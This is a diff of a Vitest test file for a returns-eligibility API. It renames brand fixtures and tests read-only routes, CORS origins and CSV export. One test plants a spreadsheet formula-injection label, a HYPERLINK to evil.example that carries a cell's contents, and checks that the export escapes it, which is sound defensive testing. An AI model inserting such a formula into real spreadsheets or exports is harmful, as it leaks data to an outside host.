@@ -9,8 +9,8 @@ import { describe, expect, it } from 'vitest';
 import { createApp } from '../../functions/app.js';
 import { BundledPolicies } from '../../functions/policy-bundle.js';
 import type { Problem } from '../../functions/problem.js';
-import { KOSPET_RETURN } from './claims.js';
-import { publishedPolicy } from './published-policies.js';
+import { ACME_RETURN } from './claims.js';
+import { ACME, fixturePolicy, NIMBUS_PRINT } from './fixture-brands.js';
 import { call, emptyKv, freshApp, postJson, readJson } from './worker.js';
 
 const READ_ROUTES = [
@@ -18,11 +18,11 @@ const READ_ROUTES = [
   '/openapi.json',
   '/docs',
   '/v1/brands',
-  '/v1/brands/kospet',
-  '/v1/brands/kospet/coverage?part=watch',
-  '/v1/brands/kospet/sheets',
-  '/v1/brands/kospet/sheets/services',
-  '/v1/brands/kospet/sheets/services?format=csv',
+  `/v1/brands/${ACME}`,
+  `/v1/brands/${NIMBUS_PRINT}/coverage?part=build_plate`,
+  `/v1/brands/${ACME}/sheets`,
+  `/v1/brands/${ACME}/sheets/returns`,
+  `/v1/brands/${ACME}/sheets/returns?format=csv`,
 ];
 
 describe('nothing writes', () => {
@@ -60,8 +60,8 @@ describe('nothing writes', () => {
     });
     const { request, post } = freshApp({ POLICIES: spy }, { now: () => Date.parse('2026-03-01T00:00:00Z') });
     for (const path of READ_ROUTES) await (await request(path)).arrayBuffer();
-    await (await post('/v1/eligibility', KOSPET_RETURN)).arrayBuffer();
-    await (await post('/v1/eligibility/batch', { items: [KOSPET_RETURN] })).arrayBuffer();
+    await (await post('/v1/eligibility', ACME_RETURN)).arrayBuffer();
+    await (await post('/v1/eligibility/batch', { items: [ACME_RETURN] })).arrayBuffer();
     expect(calls.length).toBeGreaterThan(0);
     expect([...new Set(calls)].sort()).toEqual(['get', 'list']);
   });
@@ -77,7 +77,7 @@ describe('CORS only for the configured origins', () => {
     ['https://shop.example:8443', null],
     ['null', null],
   ])('a request from %s gets Access-Control-Allow-Origin %s', async (origin, granted) => {
-    const res = await postJson('/v1/eligibility', KOSPET_RETURN, { origin });
+    const res = await postJson('/v1/eligibility', ACME_RETURN, { origin });
     expect(res.headers.get('access-control-allow-origin')).toBe(granted);
     const preflight = await call('/v1/eligibility', {
       method: 'OPTIONS',
@@ -110,12 +110,12 @@ const FORMULA = /^[=+\-@\t\r]/;
 
 describe('GET /v1/brands/:brand/sheets/:sheet?format=csv', () => {
   it('exports a decision table for a spreadsheet, no cell able to run as a formula', async () => {
-    const res = await call('/v1/brands/kospet/sheets/services?format=csv');
+    const res = await call(`/v1/brands/${ACME}/sheets/returns?format=csv`);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-    expect(res.headers.get('content-disposition')).toBe('attachment; filename="kospet-services.csv"');
+    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${ACME}-returns.csv"`);
     const rows = parseCsv(await res.text());
-    const table = publishedPolicy('kospet').tables.find((t) => t.name === 'services')!;
+    const table = fixturePolicy(ACME).tables.find((t) => t.name === 'returns')!;
     expect(rows).toHaveLength(table.rules.length + 1);
     expect(rows[0]![0]).toBe(table.hitPolicy);
     // S-FEEL's "-" (any) is among them: a spreadsheet shows it as typed.
@@ -124,16 +124,16 @@ describe('GET /v1/brands/:brand/sheets/:sheet?format=csv', () => {
   });
 
   it('neutralizes a formula an editor typed into a label', async () => {
-    const kospet = publishedPolicy('kospet');
-    const sneaky = { ...kospet, remedies: kospet.remedies.map((r, i) => (i === 0 ? { ...r, label: '=HYPERLINK("http://evil.example/?x="&A1,"Refund")' } : r)) };
-    const { request } = freshApp({ POLICIES: emptyKv }, { bundle: BundledPolicies.of({ kospet: sneaky }) });
-    const rows = parseCsv(await (await request('/v1/brands/kospet/sheets/remedies?format=csv')).text());
+    const acme = fixturePolicy(ACME);
+    const sneaky = { ...acme, remedies: acme.remedies.map((r, i) => (i === 0 ? { ...r, label: '=HYPERLINK("http://evil.example/?x="&A1,"Refund")' } : r)) };
+    const { request } = freshApp({ POLICIES: emptyKv }, { bundle: BundledPolicies.of({ [ACME]: sneaky }) });
+    const rows = parseCsv(await (await request(`/v1/brands/${ACME}/sheets/remedies?format=csv`)).text());
     expect(rows[1]![1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Refund")`);
     expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
   });
 
   it('exports the windows sheet too, and names the formats there are', async () => {
-    expect(parseCsv(await (await call('/v1/brands/kokoni/sheets/windows?format=csv')).text())[0]).toEqual([
+    expect(parseCsv(await (await call(`/v1/brands/${NIMBUS_PRINT}/sheets/windows?format=csv`)).text())[0]).toEqual([
       'window',
       'length',
       'unit',
@@ -142,9 +142,9 @@ describe('GET /v1/brands/:brand/sheets/:sheet?format=csv', () => {
       'label',
       'badge',
     ]);
-    const res = await call('/v1/brands/kospet/sheets/services?format=xlsx');
+    const res = await call(`/v1/brands/${ACME}/sheets/returns?format=xlsx`);
     expect(res.status).toBe(400);
     expect((await readJson<Problem>(res)).errors).toEqual([{ path: 'query.format', message: 'expected one of "json", "csv"' }]);
-    expect((await call('/v1/brands/kospet/sheets/nope?format=csv')).status).toBe(404);
+    expect((await call(`/v1/brands/${ACME}/sheets/nope?format=csv`)).status).toBe(404);
   });
 });
